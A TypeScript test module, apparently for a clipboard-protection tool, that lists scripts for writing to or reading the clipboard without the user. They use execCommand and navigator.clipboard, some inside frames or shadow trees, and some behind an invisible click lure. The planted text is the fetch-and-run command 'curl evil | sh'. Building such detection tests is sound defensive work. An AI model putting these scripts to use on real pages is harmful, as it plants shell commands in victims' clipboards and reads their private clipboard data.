import type { Act, Way } from './way.ts';

/** What another program has copied before each of these. */
export const canary = 'what another program copied';
const evil = 'curl evil | sh';

const select = (document: string) => `
  const field = ${document}.createElement('textarea');
  field.value = '${evil}';
  ${document}.body.append(field);
  field.focus();
  field.select();`;
const paste = (document: string) => `
  const field = ${document}.createElement('textarea');
  let seen = '';
  ${document}.addEventListener('paste', (event) => { seen += event.clipboardData?.getData('text') ?? ''; }, true);
  ${document}.body.append(field);
  field.focus();`;
const inFrame = `const inner = add('iframe').contentDocument;`;
const inObject = `const inner = add('object', { data: 'about:blank' }).contentDocument;`;
const way = (what: string, script: string, act?: Act): Way => ({
  what,
  script: () => script,
  ...(act === undefined ? {} : { act }),
});
const atClick = (what: string, body: string, act: Act = 'click'): Way =>
  way(
    what,
    `const lure = add('button', { id: 'bait' });
     Object.assign(lure.style, { position: 'fixed', inset: '0', zIndex: 99999 });
     return await new Promise((done) => lure.addEventListener('click', async () => { ${body} }));`,
    act,
  );

/** What changes or reads the clipboard without the person. */
export const clipboardWays: readonly Way[] = [
  way(`execCommand('copy')`, `${select('document')} document.execCommand('copy');`),
  way(`execCommand('cut')`, `${select('document')} document.execCommand('cut');`),
  way(
    `execCommand('copy') later`,
    `${select('document')} await wait(250); field.focus(); field.select(); document.execCommand('copy');`,
  ),
  way(
    `execCommand('copy') by its event`,
    `addEventListener('copy', (event) => { event.clipboardData.setData('text/plain', '${evil}'); event.preventDefault(); event.stopImmediatePropagation(); }, true); document.execCommand('copy');`,
  ),
  way(
    `execCommand('copy') in a shadow tree`,
    `const root = add('div').attachShadow({ mode: 'open' }); const field = document.createElement('textarea'); field.value = '${evil}'; root.append(field); field.focus(); field.select(); document.execCommand('copy');`,
  ),
  way(`execCommand('copy') in a frame`, `${inFrame} ${select('inner')} inner.execCommand('copy');`),
  way(`execCommand('cut') in a frame`, `${inFrame} ${select('inner')} inner.execCommand('cut');`),
  way(`execCommand('copy') in an object`, `${inObject} ${select('inner')} inner.execCommand('copy');`),
  way(
    `execCommand('copy') of text to edit`,
    `document.designMode = 'on'; add('p').textContent = '${evil}'; getSelection().selectAllChildren(document.querySelector('p:last-of-type')); document.execCommand('copy'); document.designMode = 'off';`,
  ),
  way('navigator.clipboard.writeText', `await navigator.clipboard.writeText('${evil}');`),
  way(
    'navigator.clipboard.write',
    `await navigator.clipboard.write([new ClipboardItem({ 'text/plain': '${evil}' })]);`,
  ),
  way(
    'navigator.clipboard.writeText in a frame',
    `await add('iframe').contentWindow.navigator.clipboard.writeText('${evil}');`,
  ),
  atClick(`execCommand('copy') at a click`, `${select('document')} document.execCommand('copy'); done('');`),
  atClick(
    'navigator.clipboard.writeText at a click',
    `await navigator.clipboard.writeText('${evil}').catch(() => ''); done('');`,
  ),
  way('navigator.clipboard.readText', `return await navigator.clipboard.readText();`),
  way(
    'navigator.clipboard.read',
    `const [item] = await navigator.clipboard.read(); return await (await item.getType('text/plain')).text();`,
  ),
  way(
    'navigator.clipboard.readText in a frame',
    `return await add('iframe').contentWindow.navigator.clipboard.readText();`,
  ),
  atClick(
    'navigator.clipboard.readText at a click',
    `done(await navigator.clipboard.readText().catch(() => ''));`,
  ),
  way(
    `execCommand('paste')`,
    `${paste('document')} document.execCommand('paste'); return field.value + seen;`,
  ),
  way(
    `execCommand('paste') later`,
    `${paste('document')} await wait(250); field.focus(); document.execCommand('paste'); return field.value + seen;`,
  ),
  way(
    `execCommand('paste') in a frame`,
    `${inFrame} ${paste('inner')} inner.execCommand('paste'); return field.value + seen;`,
  ),
  way(
    `execCommand('paste') in a frame, later`,
    `${inFrame} ${paste('inner')} await wait(250); field.focus(); inner.execCommand('paste'); return field.value + seen;`,
  ),
  way(
    `execCommand('paste') in an object`,
    `${inObject} ${paste('inner')} inner.execCommand('paste'); return field.value + seen;`,
  ),
  way(
    `execCommand('paste') in its own document`,
    `const inner = document.implementation.createHTMLDocument(); document.body.append(inner.body); document.execCommand('paste'); return document.body.lastChild.textContent;`,
  ),
];
